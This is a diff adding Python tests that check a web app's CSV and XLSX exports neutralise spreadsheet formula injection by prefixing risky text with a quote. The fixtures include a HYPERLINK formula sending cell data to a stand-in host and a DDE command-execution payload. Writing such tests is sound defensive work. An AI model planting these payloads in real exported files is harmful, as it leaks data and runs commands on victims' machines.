@@ -71,3 +71,50 @@ def test_every_export_column_is_named_in_both_languages(web):
             assert key in HEADERS and HEADERS[key] in MESSAGES, (table, head)
     r = web.client.get("/export/regions.csv?lang=en")
     assert r.content.decode("utf-8-sig").splitlines()[0].split(",")[1].startswith("Province")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_text_that_starts_like_a_formula_is_written_as_text_and_numbers_stay_numbers():
+    """Cells were written as they came: `=HYPERLINK(…)` from the data was a live formula in
+    Excel. Text gets a leading `'` (OWASP); numbers, negative ones too, stay numbers."""
+    from decimal import Decimal
+
+    from battrace.web.tabular import to_csv, to_xlsx
+
+    row = [*FORMULAS, [FORMULAS[0]], -3, -2.5, Decimal("-1.25"), "-12", "Recycler -1", "a=b"]
+    heads = [f"c{i}" for i in range(len(row))]
+    text = to_csv(heads, [row]).decode("utf-8-sig")
+    cells = next(csv.reader(io.StringIO(text.split("\r\n", 1)[1])))
+    assert cells == [*("'" + f for f in FORMULAS), "'" + FORMULAS[0], "-3", "-2.5", "-1.25",
+                     "-12", "Recycler -1", "a=b"]  # fmt: skip
+    sheet = load_workbook(io.BytesIO(to_xlsx(heads, [row]))).worksheets[0]
+    written = next(sheet.iter_rows(min_row=2))
+    assert all(c.data_type != "f" for c in written)
+    # (XML reads a CR back as LF)
+    assert [c.value.replace("\n", "\r") for c in written[: len(FORMULAS)]] == [
+        "'" + f for f in FORMULAS
+    ]
+    assert [c.value for c in written[7:10]] == [-3, -2.5, -1.25]
+    assert [c.data_type for c in written[7:10]] == ["n", "n", "n"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_enterprise_named_like_a_formula_exports_as_text(web, fmt):
+    name = FORMULAS[0]
+    web.api.ok(
+        web.api.ev(
+            "enterprise_registered", "2025-01-08", kit.REGULATOR, enterprise=kit.SHADY,
+            name=name, roles=["recycler"], region="110100",
+        )
+    )  # fmt: skip
+    web.sign_in(kit.REGULATOR)
+    r = web.client.get(f"/export/scorecards.{fmt}")
+    assert r.status_code == 200
+    if fmt == "xlsx":
+        sheet = load_workbook(io.BytesIO(r.content)).worksheets[0]
+        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    shady = next(row for row in _rows(r, fmt) if row[0] == kit.SHADY)
+    assert shady[1] == "'" + name
